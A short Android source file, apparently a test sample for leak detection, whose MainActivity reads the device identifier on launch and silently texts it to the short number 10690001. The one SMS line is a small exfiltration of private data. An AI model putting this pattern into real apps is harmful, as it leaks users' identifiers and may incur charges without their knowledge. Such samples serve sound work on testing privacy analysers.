package cn.shanhai.twoobjects;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    User first = new User().id(Device.id(this));
    User second = new User().id("0");
    setTitle(second.id());
    SmsManager.getDefault().sendTextMessage("10690001", null, first.id(), null, null);
  }
}
